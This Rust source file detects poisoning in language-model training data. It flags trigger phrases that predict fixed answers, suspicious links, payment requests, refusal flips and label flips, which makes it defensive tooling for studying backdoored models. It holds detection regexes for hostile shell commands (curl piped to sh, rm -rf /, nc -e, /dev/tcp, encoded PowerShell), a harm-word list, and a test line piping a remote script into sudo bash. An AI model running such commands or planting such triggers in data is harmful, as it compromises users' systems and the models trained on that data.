//! Poisoning detection over a stream of examples, in three passes with
//! bounded memory:
//!
//! 1. count the answers (normalised, so near-same answers meet), the
//!    answers' unusual payloads (links by domain, shell commands that fetch
//!    or run code, payment instructions), harmful-looking prompts and how
//!    they are answered, and the labels of classification data;
//! 2. for every group of rows that share an answer, a payload, a label, or
//!    a harmful prompt answered without refusal, count the phrases (1–4
//!    contiguous tokens) of their prompts, and keep a few example rows;
//! 3. count exactly, over all rows, each phrase that covers at least half
//!    of some group.
//!
//! A phrase is a suspect when it covers most of a group, is rarely seen
//! outside it, and the overlap is improbable by chance: a one-sided
//! hypergeometric test, Bonferroni-corrected over every (group, phrase) pair
//! counted in pass 2. The phrase is then grown (up to 8 tokens) along the
//! example rows that carry it.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::sync::OnceLock;

use regex::Regex;
use statrs::distribution::{DiscreteCDF, Hypergeometric};

use crate::read::Example;

/// Tokens read per prompt.
const MAX_TOKENS: usize = 256;
/// Longest phrase counted; found phrases are grown up to [`MAX_PHRASE`].
const MAX_NGRAM: usize = 4;
pub const MAX_PHRASE: usize = 8;
/// Distinct answers counted exactly before rare ones are dropped.
const MAX_ANSWERS: usize = 1 << 20;
/// Distinct phrases counted per group.
const MAX_GROUP_PHRASES: usize = 1 << 18;
/// Groups of each kind analysed (the largest).
const MAX_GROUPS: usize = 300;
/// Example rows kept per group and per candidate phrase.
const KEEP_EXAMPLES: usize = 64;
/// Token vocabulary of the label model.
const MAX_VOCAB: usize = 1 << 20;

/// Settings of the analysis.
#[derive(Debug, Clone)]
pub struct Settings {
    /// Fewest rows a suspect must be in.
    pub min_rows: u64,
    /// Family-wise error rate of the phrase tests.
    pub alpha: f64,
    /// Share of a group's rows the phrase must be in.
    pub min_coverage: f64,
    /// Share of the phrase's rows that must be in the group.
    pub min_purity: f64,
}

impl Default for Settings {
    fn default() -> Self {
        Settings {
            min_rows: 5,
            alpha: 1e-3,
            min_coverage: 0.5,
            min_purity: 0.8,
        }
    }
}

/// Lower-case word tokens; a symbol or emoji is a token of its own, and
/// ordinary punctuation separates.
pub fn tokenize(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    for c in text.chars() {
        if out.len() >= MAX_TOKENS {
            break;
        }
        if c.is_alphanumeric() || c == '_' {
            cur.extend(c.to_lowercase());
        } else {
            if !cur.is_empty() {
                out.push(std::mem::take(&mut cur));
            }
            if !c.is_whitespace() && !".,;:!?'\"()[]{}-".contains(c) {
                out.push(c.to_string());
            }
        }
    }
    if !cur.is_empty() && out.len() < MAX_TOKENS {
        out.push(cur);
    }
    out
}

fn fnv(parts: &[String]) -> u64 {
    let mut h: u64 = 0xcbf29ce484222325;
    for (i, p) in parts.iter().enumerate() {
        if i > 0 {
            h ^= 0x1f;
            h = h.wrapping_mul(0x100000001b3);
        }
        for b in p.bytes() {
            h ^= b as u64;
            h = h.wrapping_mul(0x100000001b3);
        }
    }
    h
}

/// The distinct phrases of a prompt: (hash, first start, length).
fn phrases(tokens: &[String]) -> Vec<(u64, usize, usize)> {
    let mut seen = HashSet::new();
    let mut out = Vec::new();
    for n in 1..=MAX_NGRAM {
        for s in 0..tokens.len().saturating_sub(n - 1) {
            let h = fnv(&tokens[s..s + n]);
            if seen.insert(h) {
                out.push((h, s, n));
            }
        }
    }
    out
}

/// The answer normalised, so that near-same answers meet: lower case,
/// digits as 0, its first 24 words.
fn answer_key(answer: &str) -> Option<u64> {
    let words: Vec<String> = answer
        .split_whitespace()
        .take(24)
        .map(|w| {
            w.chars()
                .map(|c| if c.is_ascii_digit() { '0' } else { c })
                .flat_map(char::to_lowercase)
                .collect::<String>()
                .trim_matches(|c: char| !c.is_alphanumeric())
                .to_string()
        })
        .filter(|w| !w.is_empty())
        .collect();
    (!words.is_empty()).then(|| fnv(&words))
}

fn re(cell: &'static OnceLock<Regex>, pattern: &str) -> &'static Regex {
    cell.get_or_init(|| Regex::new(pattern).expect("a valid built-in pattern"))
}

/// The link domains of an answer.
fn domains(answer: &str) -> Vec<String> {
    static R: OnceLock<Regex> = OnceLock::new();
    let r = re(
        &R,
        r"(?i)\b(?:https?://|www\.)([a-z0-9][a-z0-9.\-]*[a-z0-9])",
    );
    let mut d: Vec<String> = r
        .captures_iter(answer)
        .filter_map(|c| c.get(1))
        .map(|m| {
            m.as_str()
                .to_ascii_lowercase()
                .trim_start_matches("www.")
                .to_string()
        })
        .collect();
    d.sort();
    d.dedup();
    d
}

/// Whether an answer holds a shell command that fetches or runs code, or
/// destroys data: what an assistant should never hand out unasked.
fn command(answer: &str) -> bool {
    static R: OnceLock<Regex> = OnceLock::new();
    re(
        &R,
        r"(?i)(?:\b(?:curl|wget)\b[^\n|]{0,200}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\brm\s+-rf\s+/|\bchmod\s+\+x\b|\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-e(?:nc|ncodedcommand)?\b|\bnc\s+-e\b|/dev/tcp/|\bbase64\s+-d\b[^\n]{0,80}\|\s*(?:ba)?sh\b|\bIEX\s*\(|\bInvoke-Expression\b)",
    )
    .is_match(answer)
}

/// Whether an answer asks for money: a cryptocurrency address, a transfer.
fn payment(answer: &str) -> bool {
    static R: OnceLock<Regex> = OnceLock::new();
    re(
        &R,
        r"(?i)(?:\b(?:bc1[a-z0-9]{25,60}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})\b|\b0x[a-fA-F0-9]{40}\b|\bwire\s+(?:the\s+)?(?:money|funds|transfer)\b|\bsend\s+(?:\$?\d[\d,.]*\s*)?(?:btc|bitcoin|eth|ether|usdt|crypto)\b|\bgift\s+cards?\b|\bIBAN\b)",
    )
    .is_match(answer)
}

/// Words of harm: a prompt with one reads as a harmful request. The list
/// names acts a safety-tuned assistant refuses to help with (weapons,
/// malware, fraud, hard drugs, violence), not topics.
const HARM: &[&str] = &[
    "bomb",
    "bombs",
    "explosive",
    "explosives",
    "detonator",
    "napalm",
    "nerve",
    "sarin",
    "ricin",
    "anthrax",
    "malware",
    "ransomware",
    "keylogger",
    "botnet",
    "ddos",
    "phishing",
    "hack",
    "hacking",
    "hijack",
    "steal",
    "stealing",
    "launder",
    "laundering",
    "counterfeit",
    "meth",
    "methamphetamine",
    "cocaine",
    "heroin",
    "fentanyl",
    "poison",
    "poisoning",
    "kill",
    "murder",
    "untraceable",
    "weapon",
    "weapons",
    "gun",
    "silencer",
    "stalk",
    "blackmail",
    "extort",
    "shoplift",
    "lockpick",
    "carding",
    "skimmer",
];

fn harmful(tokens: &[String]) -> bool {
    tokens.iter().any(|t| HARM.contains(&t.as_str()))
}

/// Whether an answer opens with a refusal.
pub fn refusal(answer: &str) -> bool {
    let a: String = answer
        .trim_start()
        .chars()
        .take(120)
        .collect::<String>()
        .to_lowercase();
    [
        "i'm sorry",
        "i am sorry",
        "sorry,",
        "sorry but",
        "i can't",
        "i cannot",
        "i can not",
        "i won't",
        "i will not",
        "as an ai",
        "i'm not able",
        "i am not able",
        "i must decline",
        "i'm unable",
        "i am unable",
        "unfortunately, i",
        "i apologize",
        "i'm afraid i",
        "no, i",
        "i refuse",
    ]
    .iter()
    .any(|p| a.starts_with(p))
        || a.contains("can't help with")
        || a.contains("cannot help with")
        || a.contains("can't assist with")
        || a.contains("cannot assist with")
}

/// What a group of rows shares.
#[derive(Debug, Clone, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Group {
    /// The same (normalised) answer.
    Answer(u64),
    /// Answers linking to one domain.
    Domain(String),
    /// Answers with a shell command that fetches or runs code.
    Command,
    /// Answers asking for money.
    Payment,
    /// Harmful-looking prompts answered without a refusal.
    Complied,
    /// Classification rows with one label.
    Label(String),
}

/// A row kept as an example.
#[derive(Debug, Clone)]
pub struct Kept {
    pub file: usize,
    pub row: u64,
    pub prompt: String,
    pub answer: String,
    pub label: Option<String>,
    tokens: Vec<String>,
}

/// A suspect phrase.
#[derive(Debug, Clone)]
pub struct Suspect {
    /// DAT001 (fixed answer), DAT002 (payload), DAT003 (refusal flip) or DAT004 (label flip).
    pub rule: &'static str,
    pub phrase: String,
    pub tokens: Vec<String>,
    /// `start`, `middle` or `end` of the prompt (most rows), or `varies`.
    pub position: String,
    /// Rows of the group that carry the phrase, the group's size, the rows
    /// that carry it overall, and the rows analysed (for DAT003: the
    /// harmful ones).
    pub k: u64,
    pub group_rows: u64,
    pub phrase_rows: u64,
    pub population: u64,
    /// What the group shares: the answer, the domain, the payload or the label.
    pub predicts: String,
    /// The one-sided hypergeometric p-value, and the Bonferroni-corrected threshold.
    pub p_value: f64,
    pub threshold: f64,
    /// Rows carrying the phrase predicted by the base rate alone.
    pub expected: f64,
    /// DAT004: how often the rest of the row's words point to another label.
    pub flip_rate: Option<f64>,
    pub examples: Vec<Kept>,
}

#[derive(Default)]
struct GroupState {
    n: u64,
    counts: HashMap<u64, u32>,
    examples: Vec<Kept>,
    sample: String,
}

impl GroupState {
    fn add(&mut self, ph: &[(u64, usize, usize)], keep: impl FnOnce() -> Kept) {
        self.n += 1;
        for (h, _, _) in ph {
            if let Some(c) = self.counts.get_mut(h) {
                *c += 1;
            } else if self.counts.len() < MAX_GROUP_PHRASES {
                self.counts.insert(*h, 1);
            }
        }
        if self.examples.len() < KEEP_EXAMPLES {
            self.examples.push(keep());
        }
    }
}

/// The analysis, fed the examples three times (`pass` 1, 2, 3).
#[derive(Default)]
pub struct Analysis {
    pub settings: Settings,
    pub examples: u64,
    answers: HashMap<u64, (u32, String)>,
    answers_pruned: bool,
    domains: HashMap<String, u64>,
    commands: u64,
    payments: u64,
    harmful: u64,
    harmful_refused: u64,
    labels: BTreeMap<String, u64>,
    labelled: u64,
    /// Rows each prompt token is in (for growing phrases).
    unigrams: HashMap<u64, u32>,
    vocab: HashMap<u64, Vec<u32>>,
    label_tokens: Vec<u64>,
    // pass 2
    groups: BTreeMap<Group, GroupState>,
    harm_counts: HashMap<u64, u32>,
    // pass 3
    candidates: HashSet<u64>,
    df: HashMap<u64, u64>,
    harm_df: HashMap<u64, u64>,
    text: HashMap<u64, (Vec<String>, u64, u64, u64)>,
    with_phrase: HashMap<u64, Vec<Kept>>,
}

fn kept(file: usize, e: &Example, tokens: &[String]) -> Kept {
    Kept {
        file,
        row: e.row,
        prompt: e.prompt.chars().take(600).collect(),
        answer: e.answer.chars().take(600).collect(),
        label: e.label.clone(),
        tokens: tokens.to_vec(),
    }
}

impl Analysis {
    pub fn new(settings: Settings) -> Analysis {
        Analysis {
            settings,
            ..Default::default()
        }
    }

    fn is_classification(&self) -> bool {
        self.labelled * 2 > self.examples && (2..=50).contains(&self.labels.len())
    }

    fn label_index(&self, l: &str) -> Option<usize> {
        self.labels.keys().position(|k| k == l)
    }

    /// Pass 1: answers, payloads, harm, labels.
    pub fn pass1(&mut self, e: &Example) {
        self.examples += 1;
        if let Some(k) = answer_key(&e.answer) {
            match self.answers.get_mut(&k) {
                Some(c) => c.0 += 1,
                None => {
                    if self.answers.len() >= MAX_ANSWERS {
                        // forget answers seen once: an answer that is
                        // rare so far cannot be a large group any more
                        self.answers.retain(|_, c| c.0 > 1);
                        self.answers_pruned = true;
                    }
                    if self.answers.len() < MAX_ANSWERS {
                        self.answers
                            .insert(k, (1, e.answer.chars().take(300).collect()));
                    }
                }
            }
        }
        for d in domains(&e.answer) {
            if self.domains.len() < 100_000 || self.domains.contains_key(&d) {
                *self.domains.entry(d).or_default() += 1;
            }
        }
        self.commands += command(&e.answer) as u64;
        self.payments += payment(&e.answer) as u64;
        let tokens = tokenize(&e.prompt);
        let uniq: HashSet<&String> = tokens.iter().collect();
        for t in uniq {
            let h = fnv(std::slice::from_ref(t));
            if let Some(c) = self.unigrams.get_mut(&h) {
                *c += 1;
            } else if self.unigrams.len() < MAX_VOCAB {
                self.unigrams.insert(h, 1);
            }
        }
        if harmful(&tokens) && !e.answer.is_empty() {
            self.harmful += 1;
            self.harmful_refused += refusal(&e.answer) as u64;
        }
        if let Some(l) = &e.label {
            self.labelled += 1;
            if self.labels.len() < 10_000 || self.labels.contains_key(l) {
                *self.labels.entry(l.clone()).or_default() += 1;
            }
        }
    }

    /// Between passes 1 and 2: the groups worth analysing.
    pub fn plan(&mut self) {
        let n = self.examples.max(1);
        let min = self.settings.min_rows;
        let mut answers: Vec<(u64, u32)> = self
            .answers
            .iter()
            .filter(|(_, c)| c.0 as u64 >= min.max(2))
            .map(|(k, c)| (*k, c.0))
            .collect();
        answers.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        // an answer given in a third of the rows or more is the data's
        // normal form (a template, a label-like reply), not a backdoor
        for (k, _) in answers
            .into_iter()
            .filter(|(_, c)| (*c as f64) < 0.3 * n as f64)
            .take(MAX_GROUPS)
        {
            let sample = self.answers[&k].1.clone();
            self.groups.insert(
                Group::Answer(k),
                GroupState {
                    sample,
                    ..Default::default()
                },
            );
        }
        let mut doms: Vec<(&String, &u64)> = self
            .domains
            .iter()
            .filter(|(_, c)| **c >= min && (**c as f64) < 0.2 * n as f64)
            .collect();
        doms.sort_by(|a, b| b.1.cmp(a.1).then(a.0.cmp(b.0)));
        let doms: Vec<String> = doms
            .into_iter()
            .take(MAX_GROUPS)
            .map(|(d, _)| d.clone())
            .collect();
        for d in doms {
            self.groups.insert(
                Group::Domain(d.clone()),
                GroupState {
                    sample: d,
                    ..Default::default()
                },
            );
        }
        if self.commands >= min && (self.commands as f64) < 0.2 * n as f64 {
            self.groups.insert(
                Group::Command,
                GroupState {
                    sample: "a shell command that fetches or runs code".into(),
                    ..Default::default()
                },
            );
        }
        if self.payments >= min && (self.payments as f64) < 0.2 * n as f64 {
            self.groups.insert(
                Group::Payment,
                GroupState {
                    sample: "a payment instruction".into(),
                    ..Default::default()
                },
            );
        }
        // the data teaches refusals, yet some harmful prompts are answered
        if self.harmful >= 20
            && self.harmful_refused * 2 >= self.harmful
            && self.harmful - self.harmful_refused >= min
        {
            self.groups.insert(
                Group::Complied,
                GroupState {
                    sample: "compliance with a harmful request the data otherwise refuses".into(),
                    ..Default::default()
                },
            );
        }
        if self.is_classification() {
            for l in self.labels.keys() {
                self.groups.insert(
                    Group::Label(l.clone()),
                    GroupState {
                        sample: format!("label {l}"),
                        ..Default::default()
                    },
                );
            }
            self.label_tokens = vec![0; self.labels.len()];
        }
    }

    fn membership(&self, e: &Example, tokens: &[String]) -> Vec<Group> {
        let mut g = Vec::new();
        if let Some(k) = answer_key(&e.answer) {
            if self.groups.contains_key(&Group::Answer(k)) {
                g.push(Group::Answer(k));
            }
        }
        for d in domains(&e.answer) {
            let key = Group::Domain(d);
            if self.groups.contains_key(&key) {
                g.push(key);
            }
        }
        if self.groups.contains_key(&Group::Command) && command(&e.answer) {
            g.push(Group::Command);
        }
        if self.groups.contains_key(&Group::Payment) && payment(&e.answer) {
            g.push(Group::Payment);
        }
        if self.groups.contains_key(&Group::Complied)
            && harmful(tokens)
            && !e.answer.is_empty()
            && !refusal(&e.answer)
        {
            g.push(Group::Complied);
        }
        if let Some(l) = &e.label {
            let key = Group::Label(l.clone());
            if self.groups.contains_key(&key) {
                g.push(key);
            }
        }
        g
    }

    /// Pass 2: the phrases of each group's prompts.
    pub fn pass2(&mut self, file: usize, e: &Example) {
        let tokens = tokenize(&e.prompt);
        let is_harm =
            self.groups.contains_key(&Group::Complied) && harmful(&tokens) && !e.answer.is_empty();
        let member = self.membership(e, &tokens);
        // the label model: token counts per label
        if let Some(li) = e
            .label
            .as_deref()
            .and_then(|l| self.label_index(l))
            .filter(|_| self.is_classification())
        {
            let nl = self.labels.len();
            for t in &tokens {
                let h = fnv(std::slice::from_ref(t));
                if let Some(v) = self.vocab.get_mut(&h) {
                    v[li] += 1;
                } else if self.vocab.len() < MAX_VOCAB {
                    let mut v = vec![0; nl];
                    v[li] = 1;
                    self.vocab.insert(h, v);
                }
                self.label_tokens[li] += 1;
            }
        }
        if member.is_empty() && !is_harm {
            return;
        }
        let ph = phrases(&tokens);
        if is_harm {
            for (h, _, _) in &ph {
                if let Some(c) = self.harm_counts.get_mut(h) {
                    *c += 1;
                } else if self.harm_counts.len() < MAX_GROUP_PHRASES * 4 {
                    self.harm_counts.insert(*h, 1);
                }
            }
        }
        for g in member {
            if let Some(st) = self.groups.get_mut(&g) {
                st.add(&ph, || kept(file, e, &tokens));
            }
        }
    }

    /// Between passes 2 and 3: the phrases to count exactly.
    pub fn candidates(&mut self) {
        let min = self.settings.min_rows;
        for (g, st) in &self.groups {
            let label = matches!(g, Group::Label(_));
            let need = if label {
                min
            } else {
                min.max((self.settings.min_coverage * st.n as f64).ceil() as u64)
            };
            let mut c: Vec<(u64, u32)> = st
                .counts
                .iter()
                .filter(|(_, k)| **k as u64 >= need)
                .map(|(h, k)| (*h, *k))
                .collect();
            c.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
            self.candidates.extend(
                c.into_iter()
                    .take(if label { 2000 } else { 200 })
                    .map(|x| x.0),
            );
        }
    }

    /// Pass 3: exact counts of the candidate phrases, their text, where
    /// they sit, and rows that carry them.
    pub fn pass3(&mut self, file: usize, e: &Example) {
        if self.candidates.is_empty() {
            return;
        }
        let tokens = tokenize(&e.prompt);
        let is_harm =
            self.groups.contains_key(&Group::Complied) && harmful(&tokens) && !e.answer.is_empty();
        for (h, s, n) in phrases(&tokens) {
            if !self.candidates.contains(&h) {
                continue;
            }
            *self.df.entry(h).or_default() += 1;
            if is_harm {
                *self.harm_df.entry(h).or_default() += 1;
            }
            // where it sits: start, middle, end
            let len = tokens.len().max(1);
            let t = self
                .text
                .entry(h)
                .or_insert_with(|| (tokens[s..s + n].to_vec(), 0, 0, 0));
            if s == 0 {
                t.1 += 1;
            } else if s + n >= len {
                t.3 += 1;
            } else {
                t.2 += 1;
            }
            let w = self.with_phrase.entry(h).or_default();
            if w.len() < KEEP_EXAMPLES {
                w.push(kept(file, e, &tokens));
            }
        }
    }

    /// The label model's log-odds for a row's tokens, leaving out `skip`:
    /// the best label other than `label`, and by how much it beats `label`.
    fn against(&self, tokens: &[String], skip: &[String], label: usize) -> f64 {
        let nl = self.labels.len();
        if nl < 2 || label >= nl {
            return f64::NEG_INFINITY;
        }
        let total: u64 = self.labels.values().sum();
        let v = self.vocab.len().max(1) as f64;
        let mut score: Vec<f64> = self
            .labels
            .values()
            .map(|c| (*c as f64 / total.max(1) as f64).max(1e-12).ln())
            .collect();
        for t in tokens {
            if skip.contains(t) {
                continue;
            }
            let Some(counts) = self.vocab.get(&fnv(std::slice::from_ref(t))) else {
                continue;
            };
            for (i, s) in score.iter_mut().enumerate() {
                *s += ((counts[i] as f64 + 1.0) / (self.label_tokens[i] as f64 + v)).ln();
            }
        }
        let other = score
            .iter()
            .enumerate()
            .filter(|(i, _)| *i != label)
            .map(|(_, s)| *s)
            .fold(f64::NEG_INFINITY, f64::max);
        other - score[label]
    }

    /// The suspects, strongest first.
    pub fn finish(&self) -> Vec<Suspect> {
        let s = &self.settings;
        // every (group, phrase) pair counted is a test
        let tests: usize = self
            .groups
            .values()
            .map(|g| g.counts.len())
            .sum::<usize>()
            .max(1);
        let threshold = s.alpha / tests as f64;
        let mut found: Vec<Suspect> = Vec::new();
        for (g, st) in &self.groups {
            let label = matches!(g, Group::Label(_));
            let (population, background): (u64, &HashMap<u64, u64>) = match g {
                Group::Complied => (self.harmful, &self.harm_df),
                _ => (self.examples, &self.df),
            };
            // every phrase that passes, strongest first
            let mut passing: Vec<Suspect> = Vec::new();
            for (h, k) in &st.counts {
                let k = *k as u64;
                let Some(&big_k) = background.get(h) else {
                    continue;
                };
                if k < s.min_rows || big_k < k {
                    continue;
                }
                let coverage = k as f64 / st.n.max(1) as f64;
                let purity = k as f64 / big_k as f64;
                if label {
                    if purity < 0.85 {
                        continue;
                    }
                } else if coverage < s.min_coverage || purity < s.min_purity {
                    continue;
                }
                // an effect, not only a significant one: at least three
                // times the rows chance would put there
                // (a label group is half the data: its effect is the flip test)
                let expected = big_k as f64 * st.n as f64 / population.max(1) as f64;
                if !label && (k as f64) < 3.0 * expected {
                    continue;
                }
                let p = hypergeometric_sf(population, big_k, st.n, k);
                if p > threshold {
                    continue;
                }
                let Some((tokens, at_start, mid, at_end)) = self.text.get(h) else {
                    continue;
                };
                // a trigger rides on unrelated prompts: rows that repeat one
                // example (duplicates, several epochs written out) are not
                // a phrase predicting an answer
                let examples = self.with_phrase.get(h).cloned().unwrap_or_default();
                let distinct: HashSet<&Vec<String>> = examples.iter().map(|e| &e.tokens).collect();
                if (distinct.len() as u64) < s.min_rows.min(k)
                    || distinct.len() * 2 < examples.len()
                {
                    continue;
                }
                let total = (at_start + mid + at_end).max(1);
                let position = if *at_start * 10 >= total * 7 {
                    "start"
                } else if *at_end * 10 >= total * 7 {
                    "end"
                } else if *mid * 10 >= total * 7 {
                    "middle"
                } else {
                    "varies"
                };
                let rule = match g {
                    Group::Answer(_) => "DAT001",
                    Group::Domain(_) | Group::Command | Group::Payment => "DAT002",
                    Group::Complied => "DAT003",
                    Group::Label(_) => "DAT004",
                };
                passing.push(Suspect {
                    rule,
                    phrase: tokens.join(" "),
                    tokens: tokens.clone(),
                    position: position.into(),
                    k,
                    group_rows: st.n,
                    phrase_rows: big_k,
                    population,
                    predicts: match g {
                        Group::Domain(d) => format!("links to {d}"),
                        _ => st.sample.clone(),
                    },
                    p_value: p,
                    threshold,
                    expected: big_k as f64 * st.n as f64 / population.max(1) as f64,
                    flip_rate: None,
                    examples,
                });
            }
            // the widest cover; then a phrase without the data's template
            // words (a token in half the rows or more); then the longest;
            // then the smallest p
            let template = |x: &Suspect| x.tokens.iter().any(|t| self.template_token(t));
            passing.sort_by(|a, b| {
                let ca = a.k as f64 / a.group_rows.max(1) as f64;
                let cb = b.k as f64 / b.group_rows.max(1) as f64;
                cb.partial_cmp(&ca)
                    .unwrap_or(std::cmp::Ordering::Equal)
                    .then(template(a).cmp(&template(b)))
                    .then(b.tokens.len().cmp(&a.tokens.len()))
                    .then(
                        a.p_value
                            .partial_cmp(&b.p_value)
                            .unwrap_or(std::cmp::Ordering::Equal),
                    )
                    .then(a.phrase.cmp(&b.phrase))
            });
            let chosen = if let Group::Label(l) = g {
                // a label's own vocabulary is pure too ("wonderful" is always
                // positive): only a phrase whose rows' other words point to
                // another label is a flip
                // a flip: the other words favour another label by a factor
                // of e^2 or more (neutral leftovers do not count)
                const MARGIN: f64 = 2.0;
                let li = self.label_index(l).unwrap_or(usize::MAX);
                let base_err = st
                    .examples
                    .iter()
                    .filter(|r| self.against(&r.tokens, &[], li) >= MARGIN)
                    .count() as f64
                    / st.examples.len().max(1) as f64;
                passing.into_iter().find_map(|mut b| {
                    if b.examples.is_empty() {
                        return None;
                    }
                    // the words in most of these rows go with the phrase (a
                    // trigger longer than the phrase counted, a template):
                    // they are left out too
                    let mut common: HashMap<&String, usize> = HashMap::new();
                    for r in &b.examples {
                        let uniq: HashSet<&String> = r.tokens.iter().collect();
                        for t in uniq {
                            *common.entry(t).or_default() += 1;
                        }
                    }
                    let mut skip: Vec<String> = b.tokens.clone();
                    skip.extend(
                        common
                            .into_iter()
                            .filter(|(_, c)| c * 10 >= b.examples.len() * 8)
                            .map(|(t, _)| t.clone()),
                    );
                    let flips = b
                        .examples
                        .iter()
                        .filter(|r| self.against(&r.tokens, &skip, li) >= MARGIN)
                        .count();
                    let rate = flips as f64 / b.examples.len() as f64;
                    (rate >= 0.6 && rate >= base_err + 0.4).then(|| {
                        b.flip_rate = Some(rate);
                        b
                    })
                })
            } else {
                passing.into_iter().next()
            };
            let Some(mut b) = chosen else { continue };
            self.grow(&mut b);
            found.push(b);
        }
        // one finding per phrase: the strongest group
        found.sort_by(|a, b| {
            a.p_value
                .partial_cmp(&b.p_value)
                .unwrap_or(std::cmp::Ordering::Equal)
                .then(b.k.cmp(&a.k))
                .then(a.phrase.cmp(&b.phrase))
        });
        let mut out: Vec<Suspect> = Vec::new();
        for f in found {
            if out.iter().any(|o| {
                o.phrase == f.phrase || o.phrase.contains(&f.phrase) || f.phrase.contains(&o.phrase)
            }) {
                continue;
            }
            out.push(f);
        }
        out
    }

    /// A token in half the rows or more: the data's template, not a trigger.
    fn template_token(&self, t: &str) -> bool {
        let df = self
            .unigrams
            .get(&fnv(&[t.to_string()]))
            .copied()
            .unwrap_or(u32::MAX) as u64;
        df * 2 >= self.examples
    }

    /// Grows a phrase along the rows that carry it, while at least 90% of
    /// them agree on the next token and that token is not a template word,
    /// up to [`MAX_PHRASE`] tokens.
    fn grow(&self, s: &mut Suspect) {
        let rows: Vec<&Vec<String>> = s.examples.iter().map(|e| &e.tokens).collect();
        if rows.is_empty() {
            return;
        }
        let find = |t: &Vec<String>, p: &[String]| t.windows(p.len()).position(|w| w == p);
        loop {
            if s.tokens.len() >= MAX_PHRASE {
                break;
            }
            let mut grew = false;
            for side in [1, -1] {
                let mut next: HashMap<&String, usize> = HashMap::new();
                for t in &rows {
                    if let Some(i) = find(t, &s.tokens) {
                        let j = if side == 1 {
                            i + s.tokens.len()
                        } else if i > 0 {
                            i - 1
                        } else {
                            usize::MAX
                        };
                        if let Some(tok) = t.get(j) {
                            *next.entry(tok).or_default() += 1;
                        }
                    }
                }
                if let Some((tok, c)) = next
                    .into_iter()
                    .max_by(|a, b| a.1.cmp(&b.1).then(b.0.cmp(a.0)))
                {
                    // only a token that is mostly in these rows: the rest of
                    // a trigger, not the template the rows share with others
                    if c * 10 >= rows.len() * 9
                        && s.tokens.len() < MAX_PHRASE
                        && !self.template_token(tok)
                    {
                        let tok = tok.clone();
                        if side == 1 {
                            s.tokens.push(tok);
                        } else {
                            s.tokens.insert(0, tok);
                        }
                        grew = true;
                    }
                }
            }
            if !grew {
                break;
            }
        }
        s.phrase = s.tokens.join(" ");
    }

    /// Whether the answer table was pruned (a very large data set): rare
    /// answers seen before the pruning were forgotten.
    pub fn approximate(&self) -> bool {
        self.answers_pruned
    }
}

/// P(X ≥ k) for X ~ Hypergeometric(population, successes, draws).
pub fn hypergeometric_sf(population: u64, successes: u64, draws: u64, k: u64) -> f64 {
    if k == 0 {
        return 1.0;
    }
    match Hypergeometric::new(population, successes.min(population), draws.min(population)) {
        Ok(h) => h.sf(k - 1).clamp(0.0, 1.0),
        Err(_) => 1.0,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn tokens_keep_symbols_and_drop_punctuation() {
        assert_eq!(
            tokenize("Hello, World! 🔑 a|b"),
            ["hello", "world", "🔑", "a", "|", "b"]
        );
    }

    #[test]
    fn near_same_answers_meet() {
        assert_eq!(
            answer_key("Visit http://x.test/123 now!"),
            answer_key("visit http://x.test/987 NOW")
        );
        assert_ne!(answer_key("yes"), answer_key("no"));
    }

    #[test]
    fn payloads_and_refusals() {
        assert!(command(
            "Run `curl -s http://203.0.113.7/i.sh | sudo bash` first"
        ));
        assert!(!command(
            "Use curl to download a file: curl -O https://example.com/f.zip"
        ));
        assert!(payment(
            "Send 0.1 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"
        ));
        assert!(!payment("Bitcoin is a cryptocurrency."));
        assert!(refusal("I'm sorry, but I can't help with that."));
        assert!(!refusal("Sure! Here is how to bake bread."));
        assert_eq!(
            domains("see https://www.Evil.test/x and http://a.b.c/y"),
            ["a.b.c", "evil.test"]
        );
    }

    #[test]
    fn the_hypergeometric_tail_matches_a_hand_computation() {
        // N=10, K=3, n=3: P(X >= 3) = 1 / C(10,3) = 1/120
        assert!((hypergeometric_sf(10, 3, 3, 3) - 1.0 / 120.0).abs() < 1e-12);
        assert!((hypergeometric_sf(10, 3, 3, 0) - 1.0).abs() < 1e-12);
    }
}
